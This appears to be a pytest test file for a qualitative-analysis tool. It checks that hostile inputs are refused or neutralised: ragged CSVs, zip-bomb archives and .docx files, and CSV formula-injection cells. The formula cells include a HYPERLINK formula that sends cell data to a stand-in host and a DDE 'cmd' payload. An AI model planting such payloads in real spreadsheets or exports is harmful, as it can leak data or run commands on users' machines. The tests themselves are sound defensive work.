"""Hostile and oversized inputs (issue 22): each is built here, small, and must end in one
`Error:` line (or the error type, through the API) naming the limit or the place, within
a generous time (a hang guard, not a speed test), with the project unchanged."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from qda.project import Project
from tests.helpers.reliability import dump

HANG_GUARD = 120  # seconds; the fixed inputs finish in a few


def qda(*args, cwd=None, env=None):
    """The real console entry point in a subprocess, killed after HANG_GUARD seconds."""
    exe = Path(sys.executable).with_name("qda")
    return subprocess.run(
        [str(exe), *map(str, args)],
        capture_output=True,
        text=True,
        cwd=cwd,
        timeout=HANG_GUARD,
        env={**os.environ, "PYTHONWARNINGS": "ignore", **(env or {})},
    )


def run(*args):
    """The command line in this process (for inputs that cannot hang it)."""
    from click.testing import CliRunner

    from qda.cli import cli

    result = CliRunner().invoke(cli, [str(a) for a in args])
    result.returncode = result.exit_code
    return result


def one_error(result) -> str:
    """The one `Error:` line of a failed command (no traceback)."""
    assert result.returncode != 0, result.stdout
    assert "Traceback" not in result.stderr, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert lines and lines[-1].startswith("Error: "), result.stderr
    return lines[-1]


@pytest.fixture
def small(tmp_path, transcripts) -> Path:
    """A project with the fixture's transcripts (no participants sheet yet)."""
    path = tmp_path / "small.qda"
    with Project.create(path) as project:
        project.ingest([transcripts / "int-a.txt", transcripts / "int-b.txt"])
    return path


# ------------------------------------------------------------ 6. a ragged participants CSV
@pytest.mark.parametrize("where", ["first", "third"])
def test_a_ragged_participants_row_is_refused_wherever_it_is(tmp_path, small, where):
    """An unquoted comma in `Kent, UK` gives a row one field too many. As the first data
    row, pandas made the first column an index and shifted every column silently."""
    rows = [
        "participant,document,speaker,location",
        "P1,int-a,Dawn,Kent",
        "P2,int-b,Respondent,Surrey",
        "P3,int-b,Other,Sussex",
    ]
    bad = 1 if where == "first" else 3
    rows[bad] = rows[bad].rsplit(",", 1)[0] + ",Kent, UK"
    sheet = tmp_path / "participants.csv"
    sheet.write_text("\n".join(rows) + "\n", encoding="utf-8")
    before = dump(small)
    error = one_error(qda("participants", "load", sheet, "--project", small))
    assert f"line {bad + 1}" in error and str(sheet) in error and "quote" in error
    assert "5 fields where the header has 4" in error
    assert dump(small) == before


def test_a_quoted_comma_and_a_short_row_are_read(tmp_path, small):
    from qda.ingest import read_participants

    sheet = tmp_path / "participants.csv"
    sheet.write_text(
        'participant,document,speaker,location\n"P1",int-a,Dawn,"Kent, UK"\nP2,int-b,Respondent\n',
        encoding="utf-8",
    )
    info = read_participants(sheet).participants()
    assert info["P1"]["attributes"]["location"] == "Kent, UK"
    assert "location" not in info["P2"]["attributes"] or not info["P2"]["attributes"]["location"]


# ------------------------------------------------------------ 5. formulas in CSV cells
_FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-5 degrees outside, so the home visit was cancelled.",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by someone",
    "'tis the season, she said.",
]
_TRIGGERS = tuple("=+-@\t\r")


@pytest.fixture
def formulas(tmp_path) -> Path:
    """A project whose transcript turns, participant ids and attributes, and a coder's
    codings all start like spreadsheet formulas (or like the quote that protects them)."""
    from tests.helpers.paths import CODEBOOK

    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "int-h.txt").write_text(
        "".join(f"Dawn: {t}\n\nInterviewer: And?\n\n" for t in _FORMULAS), encoding="utf-8"
    )
    (folder / "participants.csv").write_text(
        'participant,document,speaker,role\n"=1+1",int-h,Dawn,"-officer"\n', encoding="utf-8"
    )
    path = tmp_path / "formulas.qda"
    with Project.create(path) as project:
        project.ingest([folder / "int-h.txt"], participants=folder / "participants.csv")
        project.load_codebook(CODEBOOK)
        segs = project.segments()
        codes = ["home_visits", "benefits", "challenges"]
        rows = [f"{sid},{codes[i % 3]}" for i, sid in enumerate(segs["segment_id"])]
        sheet = tmp_path / "ann.csv"
        sheet.write_text("segment_id,code\n" + "\n".join(rows) + "\n", encoding="utf-8")
        project.import_coding(sheet, coder="ann")
    return path


def _cells(path: Path) -> list[str]:
    import csv

    with open(path, encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path, formulas):
    outs = {
        "segments": ["segments"],
        "codings": ["codings", "--coder", "ann"],
        "matrix": ["matrix", "--rows", "participant"],
        "framework": ["framework"],
        "crosstab": ["crosstab", "role"],
    }
    for name, args in outs.items():
        out = tmp_path / f"{name}.csv"
        result = run(*args, "--out", out, "--project", formulas)
        assert result.returncode == 0, result.stderr
        cells = _cells(out)
        assert not [c for c in cells if c.startswith(_TRIGGERS)], name
        if name in ("segments", "codings"):
            assert "'-5 degrees outside, so the home visit was cancelled." in cells
            assert "''=already quoted by someone" in cells and "'tis the season, she said." in cells
        if name in ("segments", "codings", "matrix", "framework"):
            assert "'=1+1" in cells, name
    printed = run("segments", "--project", formulas)
    assert "'+cmd|' /C calc'!A0" in printed.stdout


def test_qda_reads_its_own_quoted_codings_csv_back_exactly(tmp_path, formulas):
    out = tmp_path / "codings.csv"
    assert run("codings", "--coder", "ann", "--out", out, "--project", formulas).returncode == 0
    assert "'-5 degrees outside, so the home visit was cancelled." in _cells(out)
    before = dump(formulas)
    again = run("code", "import", out, "--coder", "ann", "--project", formulas)
    assert again.returncode == 0, again.stderr
    assert "Warning" not in again.stderr, again.stderr  # no text said to differ
    assert {k: v for k, v in dump(formulas).items() if k != "history"} == {
        k: v for k, v in before.items() if k != "history"
    }
    from qda.coding.longcsv import read_long_csv

    texts = {r.text for r in read_long_csv(out)}
    assert set(_FORMULAS) <= {t for t in texts if t}


@pytest.mark.parametrize(
    "text", [*_FORMULAS, "''+y", "'", "", "plain", "\tindented", "\rreturn", "-", "'-", "a=b"]
)
def test_the_quote_rule_is_undone_exactly(text):
    from qda.csvcells import protect_cell, unprotect_cell

    written = protect_cell(text)
    assert not written.startswith(_TRIGGERS)
    assert unprotect_cell(written) == text


def test_a_pseudonymisation_key_reads_back_through_the_quote(tmp_path):
    import pandas as pd

    from qda.anonymise.key import read_key
    from qda.csvcells import write_csv

    key = tmp_path / "key.csv"
    write_csv(
        pd.DataFrame(
            {"original": ["-Kent-", "Dawn"], "replacement": ["=[town]", "[S01]"], "kind": ["place", "person"]}
        ),
        key,
    )
    assert "'=[town]" in _cells(key)
    entries = {(e.original, e.replacement) for e in read_key(key).entries}
    assert entries == {("-Kent-", "=[town]"), ("Dawn", "[S01]")}


# ------------------------------------------------------------ 10. a read-only mount
@pytest.fixture
def read_only_mount(tmp_path, small):
    """The project's folder bind-mounted read-only (as root, chmod does not stop writes;
    a read-only mount stops everyone). Skipped where mounting is not allowed."""
    import shutil
    import subprocess as sp

    src, mnt = tmp_path / "src", tmp_path / "mnt"
    src.mkdir(), mnt.mkdir()
    shutil.copy(small, src / "p.qda")
    with Project.open(src / "p.qda") as project:
        from tests.helpers.paths import CODEBOOK

        project.load_codebook(CODEBOOK)
        project.code_rules()
    assert not list(src.glob("p.qda-*"))  # no -wal/-shm left beside it
    if (
        shutil.which("mount") is None
        or sp.run(["mount", "--bind", str(src), str(mnt)], capture_output=True).returncode != 0
    ):
        pytest.skip("bind mounts are not allowed here")
    try:
        if sp.run(["mount", "-o", "remount,ro,bind", str(mnt)], capture_output=True).returncode != 0:
            pytest.skip("read-only remounts are not allowed here")
        yield mnt / "p.qda", src / "p.qda"
    finally:
        sp.run(["umount", str(mnt)], capture_output=True)


def test_reading_commands_work_on_a_read_only_mount(read_only_mount):
    path, original = read_only_mount
    before = original.read_bytes()  # (a dump would leave -wal/-shm files beside it)
    for args in (["codebook", "show"], ["codings"], ["matrix"]):
        result = run(*args, "--project", path)
        assert result.returncode == 0, (args, result.stderr)
    assert "segment_id" in qda("segments", "--project", path).stdout
    error = run("codebook", "delete", "benefits", "--archive", "--project", path).output
    assert "read-only filesystem" in error
    with Project.open(path) as project:
        assert project.read_only == "it is on a read-only filesystem"
        assert len(project.codings()) > 0
    assert original.read_bytes() == before
    assert not list(original.parent.glob("p.qda-*"))


# ------------------------------------------------------------ 7. amplification
def small_members_qdpx(path: Path, *, members: int = 6, member_bytes: int = 900 * 1024) -> Path:
    """A .qdpx of text sources each under 1 MB inflated but packed a thousand times (the
    generator that found issue 22's 2.7 MB file holding 1 GB of text)."""
    import zipfile

    from tests.helpers.refi import G, project_xml, text_source

    sources = "".join(text_source(G(10 + i), f"s{i}", [], f"internal://s{i}.txt") for i in range(members))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("project.qde", project_xml("Tool", sources))
        for i in range(members):
            z.writestr(f"sources/s{i}.txt", b"a" * member_bytes)
    return path


def test_small_members_that_amplify_are_refused(tmp_path, small):
    bomb = small_members_qdpx(tmp_path / "many.qdpx")
    assert bomb.stat().st_size < 100_000
    before = dump(small)
    error = one_error(qda("ingest", bomb, "--project", small))
    assert "zip bomb" in error and "MAX_ZIP_RATIO" in error and str(bomb) in error
    assert dump(small) == before


def test_the_document_limit_applies_to_refi_sources(tmp_path, small, monkeypatch):
    import qda.refi.reader as reader
    from qda.errors import InputError
    from tests.helpers.refi import G, make_qdpx, project_xml, text_source

    words = "Dawn: the home visit helped the family a lot.\n" * 50
    path = make_qdpx(
        tmp_path / "long.qdpx",
        project_xml("Tool", text_source(G(10), "long", [], "internal://long.txt")),
        {"sources/long.txt": words},
    )
    monkeypatch.setattr(reader, "MAX_DOCUMENT_BYTES", 1000)  # the limit, made small
    before = dump(small)
    with Project.open(small) as project, pytest.raises(InputError) as info:
        project.import_qdpx(path)
    assert "'long'" in str(info.value) and "MAX_DOCUMENT_BYTES" in str(info.value)
    assert dump(small) == before


def flat_codes_qdc(path: Path, count: int) -> Path:
    """A .qdc of ``count`` flat codes (the generator: 1,000,000 of them took 2.3 GB)."""
    codes = "".join(
        f'<Code guid="{i:08x}-0000-4000-8000-000000000000" name="c{i}" isCodable="true"/>'
        for i in range(count)
    )
    path.write_text(
        '<?xml version="1.0" encoding="utf-8"?><CodeBook xmlns="urn:QDA-XML:'
        f'codebook:1.0" origin="Tool"><Codes>{codes}</Codes></CodeBook>',
        encoding="utf-8",
    )
    return path


def test_a_codebook_over_the_code_limit_is_refused(tmp_path, small):
    from qda.limits import MAX_CODES

    qdc = flat_codes_qdc(tmp_path / "huge.qdc", MAX_CODES + 1)
    before = dump(small)
    error = one_error(qda("codebook", "load", qdc, "--project", small))
    assert f"{MAX_CODES + 1:,} codes" in error and "MAX_CODES" in error and str(qdc) in error
    assert dump(small) == before


@pytest.mark.parametrize("suffix", [".yaml", ".xlsx"])
def test_the_code_limit_holds_for_yaml_and_excel(tmp_path, monkeypatch, suffix):
    import qda.limits
    from qda.codebook import load_codebook, save_codebook
    from qda.errors import CodebookError
    from tests.helpers.paths import CODEBOOK

    path = tmp_path / f"cb{suffix}"
    save_codebook(load_codebook(CODEBOOK), path)
    monkeypatch.setattr(qda.limits, "MAX_CODES", 10)
    with pytest.raises(CodebookError, match=r"27 codes, over the limit of 10 .*MAX_CODES"):
        load_codebook(path)


def inflating_docx(path: Path, inflated: int) -> Path:
    """A .docx whose word/document.xml inflates to ``inflated`` bytes of empty paragraphs
    (streamed, so the test never holds it): the generator for issue 22's 1 MB → 1 GB file."""
    import zipfile

    head = (
        b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
        b'openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.'
            'openxmlformats.org/package/2006/content-types"/>',
        )
        with z.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write(head)
            chunk, written = b"<w:p/>" * (1024 * 1024 // 6), len(head)
            while written < inflated:
                fh.write(chunk)
                written += len(chunk)
            fh.write(b"</w:body></w:document>")
    return path


def test_a_docx_that_inflates_to_hundreds_of_megabytes_is_refused_early(tmp_path, small):
    from qda.limits import MAX_INFLATED_MEMBER_BYTES

    docx = inflating_docx(tmp_path / "inflates.docx", MAX_INFLATED_MEMBER_BYTES + 2**20)
    assert docx.stat().st_size < 2 * 1024**2
    before = dump(small)
    error = one_error(qda("ingest", docx, "--project", small))
    assert "word/document.xml" in error and "damaged" not in error
    assert "MAX_INFLATED_MEMBER_BYTES" in error or "MAX_ZIP_RATIO" in error
    assert dump(small) == before


# ------------------------------------------------------------ 8. backups keep the originals
def test_backups_holding_original_words_are_named_checked_and_wiped(tmp_path, small):
    key = tmp_path / "key.csv"
    key.write_text("original,replacement,kind\nDawn,[S01],person\n", encoding="utf-8")
    assert run("backup", "--project", small).exit_code == 0
    with Project.open(small, read_only=True) as project:
        older = [Path(p) for p in project.backups()["file"]]
    applied = run("anonymise", "--key", key, "--project", small)
    assert applied.exit_code == 0, applied.output
    assert "2 backup(s) still hold original words" in applied.stdout
    assert str(older[0]) in applied.stdout and "--wipe-backups" in applied.stdout
    check = run("anonymise", "--key", key, "--check", "--project", small)
    assert check.exit_code == 1 and "Clean" not in check.output
    assert f"backup:{older[0]}" in check.stdout and "'Dawn' (person)" in check.stdout
    wiped = run("anonymise", "--key", key, "--wipe-backups", "--project", small)
    assert wiped.exit_code == 0, wiped.output
    assert f"Wiped backup {older[0]}" in wiped.stdout and not older[0].exists()
    assert "still hold original words" not in wiped.stdout
    clean = run("anonymise", "--key", key, "--check", "--project", small)
    assert clean.exit_code == 0 and "Clean" in clean.output


# ------------------------------------------------------------ fuzz: huge members
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

FUZZ = settings(
    max_examples=int(os.environ.get("QDA_FUZZ_EXAMPLES", "25")) // 5 or 1,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)


@FUZZ
@given(members=st.integers(1, 8), size=st.integers(10_000, 1_000_000), varied=st.booleans())
def test_fuzz_qdpx_members_never_amplify_past_the_ratio(tmp_path_factory, members, size, varied):
    """Generated .qdpx files of many packed members: either an InputError, or text no
    larger than MAX_ZIP_RATIO times the file (at least 1 MB)."""
    import random
    import zipfile

    from qda.errors import QdaError
    from qda.limits import MAX_ZIP_RATIO
    from qda.refi.reader import read_qdpx
    from tests.helpers.refi import G, project_xml, text_source

    path = tmp_path_factory.mktemp("fuzz") / "f.qdpx"
    rng = random.Random(size)
    sources = "".join(text_source(G(10 + i), f"s{i}", [], f"internal://s{i}.txt") for i in range(members))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("project.qde", project_xml("Tool", sources))
        for i in range(members):
            body = " ".join(f"w{rng.randrange(10**6)}" for _ in range(size // 8)) if varied else "a" * size
            z.writestr(f"sources/s{i}.txt", body)
    try:
        project, _ = read_qdpx(path)
    except QdaError as exc:
        assert "MAX_ZIP_RATIO" in str(exc) or "limit" in str(exc)
        return
    stored = sum(len(d.text) for d in project.documents)
    assert stored <= max(1024**2, MAX_ZIP_RATIO * path.stat().st_size)


@FUZZ
@given(inflated=st.integers(100_000, 40_000_000))
def test_fuzz_docx_parts_inflating_are_refused_or_read(tmp_path_factory, inflated):
    from qda.errors import QdaError
    from qda.ingest import read_document

    path = inflating_docx(tmp_path_factory.mktemp("fuzz") / "f.docx", inflated)
    try:
        read_document(path)
    except QdaError as exc:
        assert "damaged" not in str(exc) or inflated < 64 * 1024, str(exc)
